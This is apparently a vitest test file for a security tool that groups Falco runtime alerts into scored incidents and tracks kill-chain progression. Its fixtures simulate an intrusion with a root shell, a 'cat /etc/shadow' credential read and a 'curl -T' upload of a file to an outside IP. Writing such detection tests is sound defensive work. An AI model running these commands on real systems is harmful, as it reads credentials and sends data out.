import { beforeAll, describe, expect, it } from 'vitest';
import {
  createIncidentTracker,
  INCIDENT_LIMITS,
  killChainProgression,
  whatHappened,
  workloadOf,
  type Incident,
} from '../../src/aggregate/incidents.js';
import { enrich, type EnrichedAlert } from '../../src/enrich/enrich.js';
import { loadKnowledgeBase } from '../../src/kb/knowledge-base.js';
import { cachedMatcher, type Match } from '../../src/kb/match-entry.js';
import type { Alert } from '../../src/alert/alert.js';
import { alertFrom } from '../helpers.js';

const MIN = 60_000;
const T0 = Date.parse('2026-03-01T10:00:00Z');
const at = (ms: number): string => new Date(T0 + ms).toISOString();

let match: (a: Alert) => Match;
beforeAll(async () => {
  match = cachedMatcher(await loadKnowledgeBase());
});

/** The enriched alert, as the pipeline builds it: validated, matched against the real KB, enriched. */
function ev(rule: string, priority: string, ms: number, fields: Record<string, unknown>, extra: Record<string, unknown> = {}): EnrichedAlert {
  const a = alertFrom({ rule, priority, time: at(ms), source: 'syscall', hostname: 'node-1', output_fields: fields, ...extra });
  return enrich(a, match(a));
}

const POD = { 'container.id': 'c0ffee000001', 'container.name': 'web', 'container.image.repository': 'shop/web', 'k8s.ns.name': 'shop', 'k8s.pod.name': 'web-7d9f' };

const shell = (ms: number, fields: Record<string, unknown> = {}): EnrichedAlert =>
  ev('Terminal shell in container', 'Notice', ms, { ...POD, 'proc.name': 'bash', 'proc.cmdline': 'bash -il', 'user.name': 'root', 'user.uid': 0, ...fields });
const shadow = (ms: number, fields: Record<string, unknown> = {}): EnrichedAlert =>
  ev('Read sensitive file untrusted', 'Warning', ms, { ...POD, 'proc.name': 'cat', 'proc.cmdline': 'cat /etc/shadow', 'evt.type': 'openat', 'fd.name': '/etc/shadow', 'user.name': 'root', 'user.uid': 0, ...fields });
const outbound = (ms: number, fields: Record<string, unknown> = {}): EnrichedAlert =>
  ev('Unexpected outbound connection destination', 'Notice', ms, {
    ...POD,
    'proc.name': 'curl',
    'proc.cmdline': 'curl -s -T /tmp/x https://203.0.113.9/',
    'evt.type': 'connect',
    'fd.name': '10.1.2.3:40312->203.0.113.9:443',
    'user.name': 'root',
    ...fields,
  });

function run(alerts: readonly EnrichedAlert[], opts: Partial<Parameters<typeof createIncidentTracker>[0]> = {}) {
  const t = createIncidentTracker({ windowMs: 10 * MIN, ...opts });
  for (const e of alerts) t.add(e);
  return t.finish();
}

function only(incidents: readonly Incident[]): Incident {
  expect(incidents).toHaveLength(1);
  return incidents[0] as Incident;
}

describe('incident scoring', () => {
  it('scores a benign entrypoint shell low and says why', () => {
    const benign = shell(0, { 'proc.name': 'sh', 'proc.cmdline': 'sh -c /docker-entrypoint.sh nginx' });
    expect(benign.benign.map((b) => b.pattern)).toEqual(["The shell runs the image's own entrypoint script"]);
    const inc = only(run([benign]).incidents);
    expect(inc.riskFactors).toEqual([
      { points: 10, reason: 'highest priority Notice' },
      { points: 10, reason: 'ran as root (1 of 1 alerts)' },
      { points: -10, reason: "1 of 1 alerts matched a benign pattern (The shell runs the image's own entrypoint script)" },
    ]);
    expect(inc.risk).toBe(10);
    expect(inc.benignAlerts).toBe(1);
    expect(inc.tactics).toEqual(['execution']);
    expect(inc.progression).toEqual([]);
    // The same shell typed by a person scores twice as much.
    expect(only(run([shell(0)]).incidents).risk).toBe(20);
  });

  it('lowers the score in proportion to the share of benign alerts', () => {
    const benign = (ms: number): EnrichedAlert => shell(ms, { 'proc.cmdline': 'bash /entrypoint.sh', 'user.name': 'app', 'user.uid': 1000 });
    const typed = (ms: number): EnrichedAlert => shell(ms, { 'proc.cmdline': `bash -c id${ms}`, 'user.name': 'app', 'user.uid': 1000 });
    // Notice 10 in every case; half of them benign takes off a quarter, all of them half.
    expect(only(run([typed(0), typed(1000)]).incidents).risk).toBe(10);
    const half = only(run([benign(0), typed(1000)]).incidents);
    expect(half.riskFactors.at(-1)).toEqual({ points: -3, reason: "1 of 2 alerts matched a benign pattern (The shell runs the image's own entrypoint script)" });
    expect(half.risk).toBe(7);
    expect(only(run([benign(0), benign(1000)]).incidents).risk).toBe(5);
  });

  it('builds one high-risk incident from shell, /etc/shadow read and outbound connection, tactics in kill-chain order', () => {
    const r = run([shell(0), shadow(2 * MIN), outbound(4 * MIN)]);
    expect(r.total).toBe(1);
    const inc = only(r.incidents);
    expect(inc.id).toBe('inc-1');
    expect(inc.workload).toEqual({ kind: 'container', value: 'c0ffee000001' });
    expect(inc).toMatchObject({ host: 'node-1', namespace: 'shop', pod: 'web-7d9f', container: 'web (c0ffee000001)', image: 'shop/web', alerts: 3, priority: 'Warning' });
    expect(inc.firstSeen).toBe('2026-03-01T10:00:00.000000000Z');
    expect(inc.lastSeen).toBe('2026-03-01T10:04:00.000000000Z');
    expect(inc.byPriority).toEqual({ Notice: 2, Warning: 1 });
    expect(inc.tactics).toEqual(['execution', 'credential-access', 'command-and-control', 'exfiltration']);
    expect(inc.progression).toEqual(['execution', 'credential-access', 'command-and-control']);
    expect(inc.riskFactors).toEqual([
      { points: 20, reason: 'highest priority Warning' },
      { points: 10, reason: '3 distinct rules' },
      { points: 15, reason: '4 ATT&CK tactics (execution, credential-access, command-and-control, exfiltration)' },
      { points: 24, reason: 'kill-chain progression in time order: execution → credential-access → command-and-control' },
      { points: 10, reason: 'ran as root (3 of 3 alerts)' },
    ]);
    expect(inc.risk).toBe(79);
    expect(inc.timeline.map((t) => t.what)).toEqual([
      'bash -il',
      'cat /etc/shadow → openat /etc/shadow',
      'curl -s -T /tmp/x https://203.0.113.9/ → connect 10.1.2.3:40312->203.0.113.9:443',
    ]);
    expect(inc.timeline.map((t) => t.rule)).toEqual(['Terminal shell in container', 'Read sensitive file untrusted', 'Unexpected outbound connection destination']);
  });

  it('scores the same tactics out of kill-chain order without the progression', () => {
    const inc = only(run([outbound(0), shadow(2 * MIN), shell(4 * MIN)]).incidents);
    expect(inc.tactics).toEqual(['execution', 'credential-access', 'command-and-control', 'exfiltration']);
    expect(inc.progression).toEqual([]);
    expect(inc.riskFactors.some((f) => f.reason.startsWith('kill-chain progression'))).toBe(false);
    expect(inc.risk).toBe(55);
    // Time order, not arrival order, decides: the same alerts arriving shuffled still progress.
    const shuffled = only(run([outbound(4 * MIN), shell(0), shadow(2 * MIN)]).incidents);
    expect(shuffled.progression).toEqual(['execution', 'credential-access', 'command-and-control']);
    expect(shuffled.risk).toBe(79);
    // A tactic's first sighting is its earliest in time: a late-arriving earlier shell moves execution back.
    const late = only(run([shell(4 * MIN), shadow(2 * MIN), shell(0, { 'proc.cmdline': 'bash -c id' })]).incidents);
    expect(late.progression).toEqual(['execution', 'credential-access']);
  });

  it('does not count two tactics of one alert as a progression', () => {
    const order = (ms: number, seq: number) => ({ ms, seq });
    expect(killChainProgression(new Map([['command-and-control', order(5, 1)], ['exfiltration', order(5, 1)]]))).toEqual([]);
    expect(killChainProgression(new Map([['execution', order(5, 1)], ['exfiltration', order(5, 2)]]))).toEqual(['execution', 'exfiltration']);
    expect(only(run([outbound(0)]).incidents).progression).toEqual([]);
  });

  it('adds privileged containers and sensitive namespaces', () => {
    const inc = only(run([shell(0, { 'k8s.ns.name': 'kube-system', 'container.privileged': true, 'user.name': 'nobody', 'user.uid': 65534 })]).incidents);
    expect(inc.riskFactors).toEqual([
      { points: 10, reason: 'highest priority Notice' },
      { points: 10, reason: 'privileged container (1 of 1 alerts)' },
      { points: 10, reason: 'sensitive namespace kube-system' },
    ]);
    expect(inc.risk).toBe(30);
    const custom = only(run([shell(0, { 'k8s.ns.name': 'payments' })], { sensitiveNamespaces: ['payments'] }).incidents);
    expect(custom.riskFactors.map((f) => f.reason)).toContain('sensitive namespace payments');
  });

  it('clamps the score to 100', () => {
    const crit = (ms: number, rule: string): EnrichedAlert => ev(rule, 'Emergency', ms, { ...POD, 'k8s.ns.name': 'falco', 'container.privileged': true, 'user.uid': 0 });
    const rules = ['Terminal shell in container', 'Read sensitive file untrusted', 'Unexpected outbound connection destination', 'Clear Log Activities', 'Drop and execute new binary in container'];
    const inc = only(run(rules.map((r, i) => crit(i * MIN, r))).incidents);
    expect(inc.riskFactors.reduce((n, f) => n + f.points, 0)).toBeGreaterThan(100);
    expect(inc.risk).toBe(100);
  });
});

describe('incident grouping', () => {
  it('keeps two unrelated pods apart, numbered by first alert and sorted by risk', () => {
    const other = { 'container.id': 'beef00000002', 'k8s.ns.name': 'blog', 'k8s.pod.name': 'blog-1', 'user.name': 'www' };
    const r = run([shell(0, { 'user.name': 'www', 'user.uid': 33 }), shell(MIN, other), shadow(2 * MIN, other)]);
    expect(r.total).toBe(2);
    expect(r.incidents.map((i) => [i.id, i.pod, i.alerts])).toEqual([
      ['inc-2', 'blog-1', 2],
      ['inc-1', 'web-7d9f', 1],
    ]);
    expect(r.incidents[0]!.risk).toBeGreaterThan(r.incidents[1]!.risk);
  });

  it('sorts equal risks by first seen', () => {
    const a = { 'container.id': 'aaaaaaaaaaaa' };
    const b = { 'container.id': 'bbbbbbbbbbbb' };
    // b's alert arrives first but happened later.
    const r = run([shell(5 * MIN, b), shell(MIN, a)]);
    expect(r.incidents.map((i) => [i.id, i.workload.value])).toEqual([
      ['inc-2', 'aaaaaaaaaaaa'],
      ['inc-1', 'bbbbbbbbbbbb'],
    ]);
  });

  it('joins alerts within the window of the last alert, and starts anew one millisecond past it', () => {
    const r = run([shell(0), shell(10 * MIN, { 'proc.cmdline': 'bash -c 2' }), shell(20 * MIN, { 'proc.cmdline': 'bash -c 3' }), shell(30 * MIN + 1, { 'proc.cmdline': 'bash -c 4' })]);
    expect(r.total).toBe(2);
    const [first, second] = [...r.incidents].sort((x, y) => x.id.localeCompare(y.id));
    expect(first).toMatchObject({ id: 'inc-1', alerts: 3, lastSeen: '2026-03-01T10:20:00.000000000Z' });
    expect(second).toMatchObject({ id: 'inc-2', alerts: 1, firstSeen: '2026-03-01T10:30:00.001000000Z' });
    // A shorter window splits the same alerts everywhere.
    expect(run([shell(0), shell(10 * MIN), shell(20 * MIN)], { windowMs: 10 * MIN - 1 }).total).toBe(3);
  });

  it('keeps alerts without a date in an incident of their own, in arrival order, beside the dated one', () => {
    const undated = (cmd: string): EnrichedAlert => {
      const a = alertFrom({ rule: 'Terminal shell in container', priority: 'Notice', output_fields: { ...POD, 'proc.cmdline': cmd } });
      return enrich(a, match(a));
    };
    const r = run([shell(0), undated('bash -c later'), shell(5 * MIN, { 'proc.cmdline': 'bash -c x' }), undated('bash -c last')]);
    expect(r.total).toBe(2);
    const [dated, apart] = [...r.incidents].sort((x, y) => (x.id < y.id ? -1 : 1));
    // The undated alert did not cut the dated incident in two.
    expect(dated?.timeline.map((t) => [t.time, t.what])).toEqual([
      ['2026-03-01T10:00:00.000000000Z', 'bash -il'],
      ['2026-03-01T10:05:00.000000000Z', 'bash -c x'],
    ]);
    expect(dated?.lastSeen).toBe('2026-03-01T10:05:00.000000000Z');
    expect(apart?.workload).toEqual(dated?.workload);
    expect(apart?.timeline.map((t) => [t.time, t.what])).toEqual([
      [undefined, 'bash -c later'],
      [undefined, 'bash -c last'],
    ]);
    expect(apart?.firstSeen).toBeUndefined();
  });

  it('splits alerts without a date by their times of day, the window either way round midnight, and keeps the time of day in the timeline', () => {
    const at = (timeOfDay: string, cmd: string): EnrichedAlert => {
      const a = { ...alertFrom({ rule: 'Terminal shell in container', priority: 'Notice', output_fields: { ...POD, 'proc.cmdline': cmd } }), timeOfDay };
      return enrich(a, match(a));
    };
    const r = run([at('23:55:00.5', 'a'), at('00:03:00.1', 'b'), at('00:14:00.0', 'c'), at('09:00:00.0', 'd'), at('09:00:01.0', 'e')]);
    expect(r.total).toBe(3);
    const timelines = [...r.incidents].sort((x, y) => (x.id < y.id ? -1 : 1)).map((i) => i.timeline.map((t) => [t.timeOfDay, t.what]));
    expect(timelines).toEqual([
      [['23:55:00.5', 'a'], ['00:03:00.1', 'b']],
      [['00:14:00.0', 'c']],
      [['09:00:00.0', 'd'], ['09:00:01.0', 'e']],
    ]);
    expect(r.incidents.every((i) => i.timeline.every((t) => t.time === undefined))).toBe(true);
    const first = r.incidents.find((i) => i.id === 'inc-1');
    expect([first?.firstSeen, first?.firstTimeOfDay, first?.lastTimeOfDay]).toEqual([undefined, '23:55:00.5', '00:03:00.1']);
  });

  it('does not tie alerts of no known workload together: one incident per source and rule', () => {
    const bare = (rule: string, priority: string, source?: string): EnrichedAlert => {
      const a = alertFrom({ rule, priority, time: at(0), ...(source ? { source } : {}), output_fields: {} });
      return enrich(a, match(a));
    };
    const r = run([
      bare('Terminal shell in container', 'Notice'),
      bare('Read sensitive file untrusted', 'Warning'),
      bare('Terminal shell in container', 'Notice'),
      bare('Terminal shell in container', 'Notice', 'k8s_audit'),
    ]);
    expect(r.total).toBe(3);
    const counts = r.incidents.map((i) => [i.workload.kind, i.rules.map((x) => `${x.value}:${x.count}`).join(), i.sources.join()]).sort();
    expect(counts).toEqual([
      ['unknown', 'Read sensitive file untrusted:1', 'syscall'],
      ['unknown', 'Terminal shell in container:1', 'k8s_audit'],
      ['unknown', 'Terminal shell in container:2', 'syscall'],
    ]);
    // No incident spans two rules, so none claims a kill chain.
    expect(r.incidents.every((i) => i.progression.length === 0)).toBe(true);
  });

  it('skips Falco internal events', () => {
    const drop = alertFrom({ rule: 'Falco internal: syscall event drop', priority: 'Critical', time: at(0), hostname: 'node-1', output_fields: { n_drops: 5 } });
    expect(run([enrich(drop, match(drop))])).toEqual({ total: 0, evicted: 0, incidents: [] });
  });
});

describe('incident memory bounds', () => {
  it('evicts the least recently updated open incident and keeps only the top incidents', () => {
    const alerts: EnrichedAlert[] = [];
    for (let i = 0; i < 50; i++) alerts.push(shell(i, { 'container.id': `c${String(i).padStart(11, '0')}` }));
    // Container 0 alerts again after its incident was evicted: a new incident, with a higher priority.
    alerts.push(shadow(60, { 'container.id': 'c00000000000' }));
    const r = run(alerts, { maxOpen: 3, keepTop: 5 });
    expect(r.total).toBe(51);
    expect(r.evicted).toBe(48);
    expect(r.incidents).toHaveLength(5);
    expect(r.incidents[0]).toMatchObject({ id: 'inc-51', workload: { kind: 'container', value: 'c00000000000' }, alerts: 1, priority: 'Warning' });
    // The rest tie on risk: earliest first seen wins the remaining places.
    expect(r.incidents.slice(1).map((i) => i.id)).toEqual(['inc-1', 'inc-2', 'inc-3', 'inc-4']);
  });

  it('closes incidents whose window has passed as the stream moves on', () => {
    const t = createIncidentTracker({ windowMs: MIN, maxOpen: 2 });
    for (let i = 0; i < 10; i++) t.add(shell(i * 2 * MIN, { 'container.id': `c${String(i).padStart(11, '0')}` }));
    const r = t.finish();
    // Each workload's window had passed when the next arrived: nothing needed evicting.
    expect(r.total).toBe(10);
    expect(r.evicted).toBe(0);
  });

  it('bounds the timeline, folds repeats and bounds the rules', () => {
    const alerts: EnrichedAlert[] = [];
    for (let i = 0; i < 5; i++) alerts.push(shell(i));
    for (let i = 0; i < 200; i++) alerts.push(ev(`Custom rule ${i % 40}`, 'Notice', 1000 + i, { ...POD, 'proc.cmdline': `step ${i}` }));
    const inc = only(run(alerts).incidents);
    expect(inc.alerts).toBe(205);
    expect(inc.timeline).toHaveLength(INCIDENT_LIMITS.timelineHead + INCIDENT_LIMITS.timelineTail);
    expect(inc.timeline[0]).toMatchObject({ what: 'bash -il', count: 5, time: '2026-03-01T10:00:00.000000000Z', lastTime: '2026-03-01T10:00:00.004000000Z' });
    expect(inc.timeline[1]?.what).toBe('step 0');
    expect(inc.timeline.at(-1)?.what).toBe('step 199');
    // The folded shell and steps 0–18 head the timeline, steps 190–199 end it: steps 19–189 are left out.
    expect(inc.timeline[INCIDENT_LIMITS.timelineHead - 1]?.what).toBe('step 18');
    expect(inc.timelineOmitted).toEqual({ at: INCIDENT_LIMITS.timelineHead, alerts: 171 });
    expect(inc.timeline[INCIDENT_LIMITS.timelineHead]?.what).toBe('step 190');
    expect(inc.rules).toHaveLength(INCIDENT_LIMITS.rulesKept);
    expect(inc.rules.reduce((n, r) => n + r.count, 0) + inc.otherRuleAlerts).toBe(205);
    expect(inc.riskFactors.find((f) => f.reason.includes('distinct rules'))).toEqual({ points: 15, reason: '33 or more distinct rules' });
  });
});

describe('the timeline tail', () => {
  it('keeps the last entries in order however often it wrapped, and folds a repeat into the newest', () => {
    for (const extra of [0, 3, 7, 10, 13]) {
      const n = INCIDENT_LIMITS.timelineHead + INCIDENT_LIMITS.timelineTail + extra;
      const alerts: EnrichedAlert[] = [];
      for (let i = 0; i < n; i++) alerts.push(ev('Custom rule', 'Notice', 1000 + i, { ...POD, 'proc.cmdline': `step ${i}` }));
      alerts.push(ev('Custom rule', 'Notice', 1000 + n, { ...POD, 'proc.cmdline': `step ${n - 1}` }));
      const inc = only(run(alerts).incidents);
      const tail = inc.timeline.slice(INCIDENT_LIMITS.timelineHead);
      const want = Array.from({ length: INCIDENT_LIMITS.timelineTail }, (_, k) => `step ${n - INCIDENT_LIMITS.timelineTail + k}`);
      expect(tail.map((e) => e.what), `extra ${extra}`).toEqual(want);
      expect(tail.map((e) => e.count)).toEqual([...Array<number>(INCIDENT_LIMITS.timelineTail - 1).fill(1), 2]);
      expect(inc.timelineOmitted?.alerts ?? 0).toBe(extra);
    }
  });
});

describe('workloads and what happened', () => {
  const w = (fields: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
    workloadOf(alertFrom({ rule: 'R', priority: 'Notice', output_fields: fields, hostname: 'node-9', ...extra }));

  it('keys on container, else pod, else host, else the audit principal', () => {
    expect(w({ 'container.id': 'abc', 'k8s.pod.name': 'p' })).toEqual({ kind: 'container', value: 'abc' });
    expect(w({ 'container.id': '<NA>', 'k8s.ns.name': 'ns', 'k8s.pod.name': 'p' })).toEqual({ kind: 'pod', value: 'ns/p' });
    expect(w({ 'container.id': 'host', 'proc.name': 'sshd' })).toEqual({ kind: 'host', value: 'node-9' });
    expect(w({ 'proc.name': 'sshd' })).toEqual({ kind: 'host', value: 'node-9' });
    expect(w({ 'ka.user.name': 'alice', 'ka.verb': 'create' }, { source: 'k8s_audit' })).toEqual({ kind: 'principal', value: 'alice' });
    expect(w({ 'ct.user': 'arn:aws:iam::1:user/bob', 'ct.name': 'PutBucketAcl' }, { source: 'aws_cloudtrail' })).toEqual({ kind: 'principal', value: 'arn:aws:iam::1:user/bob' });
    expect(w({ 'okta.actor.name': 'Eve' }, { source: 'okta', hostname: undefined })).toEqual({ kind: 'principal', value: 'Eve' });
    expect(w({ 'ka.user.name': null }, { source: 'k8s_audit' })).toEqual({ kind: 'unknown', value: 'unknown' });
    expect(w({}, { hostname: undefined })).toEqual({ kind: 'unknown', value: 'unknown' });
  });

  it('says what happened in one line', () => {
    const a = (fields: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
      whatHappened(alertFrom({ rule: 'Some rule', priority: 'Notice', output_fields: fields, ...extra }));
    expect(a({ 'ka.user.name': 'alice', 'ka.verb': 'create', 'ka.target.resource': 'pods', 'ka.target.subresource': 'exec', 'ka.target.namespace': 'shop', 'ka.target.name': 'web-1' }, { source: 'k8s_audit' })).toBe(
      'alice create pods/exec shop/web-1',
    );
    expect(a({ 'ct.user': 'bob', 'ct.name': 'DeleteTrail' }, { source: 'aws_cloudtrail' })).toBe('bob DeleteTrail');
    expect(a({ 'proc.name': 'sh', 'proc.cmdline': 'sh -c "echo a\nb"' })).toBe('sh -c "echo a b"');
    expect(a({ 'proc.name': '<NA>', 'evt.type': 'openat', 'fd.name': '/etc/shadow' })).toBe('openat /etc/shadow');
    expect(a({ 'proc.cmdline': 'x'.repeat(500) })).toHaveLength(INCIDENT_LIMITS.whatLength);
    expect(a({}, { output: '10:00:00.000000000: Notice Something odd happened' })).toBe('Something odd happened');
    expect(a({})).toBe('Some rule');
  });
});
